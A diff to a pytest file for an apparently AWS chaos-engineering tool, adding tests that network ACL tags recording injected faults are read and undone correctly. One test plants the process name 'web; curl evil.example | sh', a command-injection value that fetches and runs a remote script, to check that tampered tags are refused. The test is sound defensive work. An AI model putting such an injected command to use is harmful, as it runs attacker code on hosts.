@@ -6,11 +6,13 @@ import pytest
 
 from chaosgrade.aws import Call
 from chaosgrade.changes import manifest
+from chaosgrade.changes.group_processes import SuspendedProcesses
 from chaosgrade.changes.instance import InstanceState
 from chaosgrade.changes.journal import Entry, State
 from chaosgrade.changes.manifest import Former, Trace
 from chaosgrade.changes.model import address
 from chaosgrade.changes.network_acl import SubnetAcl
+from chaosgrade.changes.process import ProcessState
 from tests.canned_aws import CannedAws
 
 
@@ -99,18 +101,47 @@ def test_traces_are_what_a_journal_would_hold() -> None:
         return entry(id_, 0, "ec2:blocking-acl", address, text, None, ours)
 
     cut = entry(
-        4, 1, "ec2:subnet-acl",
+        1, 2, "ec2:subnet-acl",
         '{"subnet_id": "subnet-1", "vpc_id": "vpc-1", "zone": "us-east-1a"}',
         "cut subnet-1 in us-east-1a off", "acl-9", "chaosgrade:x",
     )  # fmt: skip
     power = entry(
-        3, 1, "ec2:instance-state", '{"instance_id": "i-1", "zone": "us-east-1a"}',
+        3, 2, "ec2:instance-state", '{"instance_id": "i-1", "zone": "us-east-1a"}',
         "power off i-1 in us-east-1a", "running", "stopped",
     )  # fmt: skip
     assert (r1.run, r1.expires, r1.unreadable) == ("r1", 50.0, ("acl-5",))
     assert set(map(repr, r1.entries)) == set(
         map(repr, [itself(0, "vpc-1", "x", first), cut, itself(2, "vpc-2", "y", second), power])
     )
+
+
+def test_what_two_transactions_have_found_suspended_is_resumed_once() -> None:
+    """The second has changed nothing of it, whichever network ACL is listed first."""
+    group = SuspendedProcesses("web", ("Launch",))
+    first = tagged("x", "r1", 50.0, Former(group, [], ["Launch"]))
+    second = tagged("y", "r1", 60.0, Former(group, ["Launch"], ["Launch"]))
+    for found in ([first, second], [second, first]):
+        acls = [acl(f"acl-{n}", "vpc-1", tags) for n, tags in enumerate(found)]
+        (trace,) = manifest.traces(CannedAws({"DescribeNetworkAcls": {"NetworkAcls": acls}}))  # type: ignore[arg-type]
+        values = [(e.wave, e.before, e.wanted) for e in trace.entries if e.kind == group.kind]
+        assert values == [(1, [], ["Launch"])]
+        assert [e.id for e in trace.entries] == [0, 1, 2]  # an undo keeps them apart by it
+
+
+def test_tags_have_nothing_done_but_what_a_zone_fault_has_changed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Whoever may tag a network ACL may not run commands on instances, nor break a recovery."""
+    process = ProcessState("i-1", "us-east-1a", "web; curl evil.example | sh")
+    tags = tagged("x", "r1", 50.0, Former(process, "running", "stopped"))
+    aws: Any = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": [acl("acl-1", "vpc-1", tags)]}})
+    assert manifest.traces(aws) == [Trace("r1", 50.0, (), ("acl-1",))]
+    with monkeypatch.context() as patch:
+        patch.setattr(manifest, "address", lambda setting: {"no": "such field"})
+        off = Former(InstanceState("i-1", "us-east-1a"), "running", "stopped")
+        tags = tagged("x", "r1", 50.0, off)
+    aws = CannedAws({"DescribeNetworkAcls": {"NetworkAcls": [acl("acl-1", "vpc-1", tags)]}})
+    assert manifest.traces(aws) == [Trace("r1", 50.0, (), ("acl-1",))]
 
 
 def test_a_trace_expires_with_the_last_of_its_network_acls() -> None:
